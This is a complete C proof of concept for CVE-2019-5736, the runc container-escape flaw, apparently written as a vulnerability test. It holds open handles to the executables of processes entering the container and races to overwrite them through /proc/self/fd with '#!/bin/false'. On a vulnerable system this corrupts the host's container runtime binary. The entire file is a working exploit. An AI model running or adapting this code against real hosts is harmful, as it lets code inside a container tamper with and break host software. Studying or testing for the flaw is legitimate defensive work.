/*
 * CVE-2019-5736: holds on to the program of every process it ever sees and writes to it as soon as the kernel lets it. The container's own
 * programs are left alone. Prints "wrote" where it succeeded.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define HELD 256

static int held[HELD];
static size_t count;

static void attack(int handle)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", handle);
    int file = open(path, O_WRONLY | O_CLOEXEC);
    if (file < 0)
        return;
    if (write(file, "#!/bin/false\n", 13) == 13) {
        puts("wrote");
        fflush(stdout);
    }
    close(file);
}

/* Told by the descriptor: the process may have become another program meanwhile. */
static int is_own(int handle)
{
    char path[64], program[300];
    snprintf(path, sizeof path, "/proc/self/fd/%d", handle);
    ssize_t length = readlink(path, program, sizeof program - 1);
    program[length > 0 ? length : 0] = '\0';
    return strcmp(program, "/bin/busybox") == 0 || strncmp(program, "/t/", 3) == 0;
}

static void look_at(const char *pid)
{
    char path[300];
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    int handle = open(path, O_PATH | O_CLOEXEC);
    if (handle < 0)
        return;
    if (is_own(handle)) {
        close(handle);
        return;
    }
    if (count == HELD)
        close(held[0]), memmove(held, held + 1, --count * sizeof *held);
    held[count++] = handle;
}

int main(void)
{
    alarm(1800); /* should nobody be left to end it */
    for (;;) {
        DIR *processes = opendir("/proc");
        if (!processes)
            return 1;
        for (struct dirent *entry; (entry = readdir(processes));)
            if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9')
                look_at(entry->d_name);
        closedir(processes);
        for (size_t i = 0; i < count; i++)
            attack(held[i]);
    }
}
